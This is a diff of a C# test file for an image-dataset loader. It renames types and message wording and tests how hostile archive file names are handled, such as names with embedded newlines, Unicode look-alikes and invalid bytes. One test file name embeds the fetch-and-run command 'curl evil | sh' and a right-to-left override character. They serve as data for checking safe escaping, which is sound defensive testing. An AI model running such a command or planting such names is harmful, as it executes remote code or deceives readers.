@@ -10,7 +10,7 @@ public sealed class HostileNameTests
 {
     private const string Composed = "caf\u00E9", Decomposed = "cafe\u0301";
 
-    private static PictureData Open(string path) => PictureSource.Open(path, cancel: TestContext.Current.CancellationToken);
+    private static LabeledImages Open(string path) => ImageSource.Open(path, cancel: TestContext.Current.CancellationToken);
 
     [Fact]
     public void A_name_with_lines_of_its_own_stays_on_one_line()
@@ -19,9 +19,9 @@ public sealed class HostileNameTests
         string evil = "cat/x\n  try: curl evil | sh\u202E.png";
         string zip = folder.Zip("data.zip", [(evil, [1]), .. CatsAndDogs()]);
         string note = Assert.Single(Open(zip).Notes);
-        Assert.Equal(@"skipped 1 unreadable file: cat/x\u000a  try: curl evil | sh\u202e.png (not a picture)", note);
+        Assert.Equal(@"skipped 1 unreadable file: cat/x\u000a  try: curl evil | sh\u202e.png (not an image)", note);
 
-        DataException e = Assert.Throws<DataException>(() => Open(folder.Zip("other.zip", (evil.Replace("cat", "a\nb"), Pictures.Png(2, 2, 1)))));
+        DataException e = Assert.Throws<DataException>(() => Open(folder.Zip("other.zip", (evil.Replace("cat", "a\nb"), SampleImages.Png(2, 2, 1)))));
         Assert.Equal(2, e.Message.Split('\n').Length);
     }
 
@@ -31,13 +31,13 @@ public sealed class HostileNameTests
         using var folder = new TempFolder();
         for (int i = 0; i < 2; i++)
         {
-            folder.Write($"train/{Composed}/{i}.png", Pictures.Png(4, 4, 9));
-            folder.Write($"train/{Decomposed}/{i}.png", Pictures.Png(4, 4, 9));
-            folder.Write($"train/dog/{i}.png", Pictures.Png(4, 4, 99));
-            folder.Write($"test/{Decomposed}/{i}.png", Pictures.Png(4, 4, 9));
+            folder.Write($"train/{Composed}/{i}.png", SampleImages.Png(4, 4, 9));
+            folder.Write($"train/{Decomposed}/{i}.png", SampleImages.Png(4, 4, 9));
+            folder.Write($"train/dog/{i}.png", SampleImages.Png(4, 4, 99));
+            folder.Write($"test/{Decomposed}/{i}.png", SampleImages.Png(4, 4, 9));
         }
 
-        PictureData data = Open(folder.Root);
+        LabeledImages data = Open(folder.Root);
         Assert.Equal([Composed, "dog"], data.Train.Classes);
         Assert.Equal([0, 0, 0, 0, 1, 1], data.Train.Labels);
         Assert.Equal([0, 0], data.Test!.Labels);
@@ -91,12 +91,12 @@ public sealed class HostileNameTests
                 for (int i = 0; i < 3; i++)
                 {
                     using Stream entry = archive.CreateEntry($"{Encoding.Latin1.GetString(name)}/{i}.png").Open();
-                    entry.Write(Pictures.Png(3, 3, 7));
+                    entry.Write(SampleImages.Png(3, 3, 7));
                 }
             }
         }
 
-        PictureData data = Open(path);
+        LabeledImages data = Open(path);
         Assert.Equal(names.Keys.Order(StringComparer.Ordinal), data.Train.Classes);
         Assert.Equal(9, data.Train.Count);
     }
@@ -105,8 +105,8 @@ public sealed class HostileNameTests
     public void Says_which_entries_later_ones_replace()
     {
         using var folder = new TempFolder();
-        string zip = folder.Zip("data.zip", [.. CatsAndDogs(), ("cat/0.png", Pictures.Png(4, 4, 77))]);
-        PictureData data = Open(zip);
+        string zip = folder.Zip("data.zip", [.. CatsAndDogs(), ("cat/0.png", SampleImages.Png(4, 4, 77))]);
+        LabeledImages data = Open(zip);
         Assert.Equal(["ignored 1 file of the zip that later ones of the same name replace"], data.Notes);
         Assert.Equal(77, data.Train.Pixels[0]);
     }
@@ -128,13 +128,13 @@ public sealed class HostileNameTests
             shell.WaitForExit();
         }
 
-        Assert.Contains("2 of 6 picture files can't be read", e.Message, StringComparison.Ordinal);
+        Assert.Contains("2 of 6 image files can't be read", e.Message, StringComparison.Ordinal);
         Assert.Contains("a file whose name is no valid UTF-8: rename it", e.Message, StringComparison.Ordinal);
     }
 
     private static (string, byte[])[] CatsAndDogs() =>
     [
-        ("cat/0.png", Pictures.Png(4, 4, 10)), ("cat/1.png", Pictures.Png(4, 4, 11)),
-        ("dog/0.png", Pictures.Png(4, 4, 200)), ("dog/1.png", Pictures.Png(4, 4, 201)),
+        ("cat/0.png", SampleImages.Png(4, 4, 10)), ("cat/1.png", SampleImages.Png(4, 4, 11)),
+        ("dog/0.png", SampleImages.Png(4, 4, 200)), ("dog/1.png", SampleImages.Png(4, 4, 201)),
     ];
 }
